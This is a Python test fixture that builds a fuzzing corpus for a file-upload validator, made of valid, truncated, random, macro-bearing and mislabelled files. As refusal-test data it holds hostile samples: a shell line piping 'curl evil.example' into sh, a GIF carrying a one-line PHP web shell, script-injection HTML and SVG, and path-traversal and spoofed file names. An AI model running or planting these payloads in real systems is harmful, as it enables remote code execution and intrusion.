"""The upload fuzzing corpus: valid files of each allowed type, seeded random bytes, truncated
headers, hostile names, macros, markup named as images, a file over the (test) size limit."""

import dataclasses
import io
import random
import re
import zipfile

from innovations.uploads import DOCX, JPEG, PDF, PNG, XLSX
from tests.innovations.factories import (
    JPEG_BYTES,
    PDF_BYTES,
    PNG_BYTES,
    office_bytes,
)

# Small, so that "over the limit" costs 64 KB per request instead of 10 MB; same code path.
LIMIT = 64 * 1024
SEED = 20260009
ALL_TYPES = {PDF, JPEG, PNG, XLSX, DOCX}
RANDOM_NAME = re.compile(r"^[0-9a-f]{32}(\.pdf)?$")


@dataclasses.dataclass(frozen=True)
class Upload:
    label: str
    name: str
    content: bytes
    kind: str | None = None  # the allowed type the content truly is; None: must be refused
    strict: bool = True  # False: an allowed file may still be refused (e.g. a 1,000-char name)


def _zip(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


MACRO_FILES = {
    # Word finds the macro project through the part's relationship, whatever its name or case.
    "docm: macro part in capitals": _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document/>",
            "word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0" + bytes(200),
        }
    ),
    "docm: macro part renamed, declared in [Content_Types].xml": _zip(
        {
            "[Content_Types].xml": '<Types><Default Extension="dat" '
            'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            "word/document.xml": "<w:document/>",
            "word/laporan.dat": b"\xd0\xcf\x11\xe0" + bytes(200),
        }
    ),
    "docm: macro-enabled main part declared": _zip(
        {
            "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType='
            '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            "word/document.xml": "<w:document/>",
        }
    ),
    "xlsm: workbook with a macro project": _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "xl/workbook.xml": "<workbook/>",
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(200),
        }
    ),
    "docx with an ActiveX control": _zip(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document/>",
            "word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0" + bytes(200),
        }
    ),
}


def corpus():
    rng = random.Random(SEED)
    docx = office_bytes("word")
    uploads = [
        Upload("valid pdf", "laporan.pdf", PDF_BYTES, PDF),
        Upload("valid png", "foto.png", PNG_BYTES, PNG),
        Upload("valid jpeg", "foto.jpg", JPEG_BYTES, JPEG),
        Upload("valid docx", "proposal.docx", docx, DOCX),
        Upload("valid xlsx", "anggaran.xlsx", office_bytes("xl"), XLSX),
        # A DOCX whose one part inflates to 8 MB: harmless, nothing ever decompresses it.
        Upload(
            "docx declaring 8 MB inside",
            "besar.docx",
            _zip(
                {
                    "[Content_Types].xml": "<Types/>",
                    "word/document.xml": "<w:document/>",
                    "word/media/blank.bin": b"\0" * (8 * 1024 * 1024),
                }
            ),
            DOCX,
        ),
        Upload("empty", "kosong.pdf", b""),
        Upload("over the limit, sparse", "besar.pdf", b"%PDF-1.4\n" + b"\0" * LIMIT),
        Upload("pdf magic only", "potong.pdf", b"%PDF-"),
        Upload("pdf header line only", "potong.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
        Upload("pdf truncated before %%EOF", "potong.pdf", PDF_BYTES[:-7]),
        Upload("pdf header then garbage", "laporan.pdf", b"%PDF-1.4\n" + rng.randbytes(2000)),
        Upload("png signature only", "foto.png", PNG_BYTES[:8]),
        Upload("png truncated after IHDR", "foto.png", PNG_BYTES[:33]),
        Upload("png header then garbage", "foto.png", PNG_BYTES[:33] + rng.randbytes(500)),
        Upload("jpeg SOI only", "foto.jpg", JPEG_BYTES[:3]),
        Upload("jpeg truncated", "foto.jpg", JPEG_BYTES[:12]),
        Upload("jpeg header then garbage", "foto.jpg", JPEG_BYTES[:12] + rng.randbytes(500)),
        Upload("zip, not office", "arsip.docx", office_bytes("zip")),
        Upload("zip truncated", "proposal.docx", docx[: len(docx) // 2]),
        Upload(
            "docm: office with a macro",
            "proposal.docx",
            _zip(
                {
                    "[Content_Types].xml": "<Types/>",
                    "word/document.xml": "<w:document/>",
                    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + rng.randbytes(200),
                }
            ),
        ),
        *[Upload(label, "proposal.docx", content) for label, content in MACRO_FILES.items()],
        Upload(
            "html named .pdf",
            "laporan.pdf",
            b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        ),
        Upload(
            "svg named .png",
            "foto.png",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
            b"</svg>",
        ),
        Upload("shell script named .jpg", "foto.jpg", b"#!/bin/sh\ncurl evil.example | sh\n"),
        Upload("gif with php named .png", "foto.png", b"GIF89a<?php system($_GET['c']); ?>"),
        Upload("windows executable named .pdf", "laporan.pdf", b"MZ\x90\x00" + rng.randbytes(300)),
    ]
    for size in (1, 7, 64, 1024, 9000):
        uploads.append(Upload(f"random {size} bytes", "acak.pdf", rng.randbytes(size)))
    hostile_names = {
        "path traversal": "../../etc/passwd.pdf",
        "windows path": "..\\..\\Windows\\win.ini.pdf",
        "absolute path": "/var/www/index.pdf",
        "unicode": "laporan-ñ-日本語-😀.pdf",
        "right-to-left override": "laporan\u202efdp.exe",
        "NUL byte": "laporan\x00.php.pdf",
        "hidden file": ".htaccess.pdf",
        "device name": "CON.pdf",
    }
    for label, name in hostile_names.items():
        uploads.append(Upload(f"name: {label}", name, PDF_BYTES, PDF))
        uploads.append(Upload(f"name: {label}, html inside", name, b"<html><script>1</script>"))
    uploads.append(Upload("name: 1,000 characters", "a" * 996 + ".pdf", PDF_BYTES, PDF, False))
    return uploads


CORPUS = corpus()
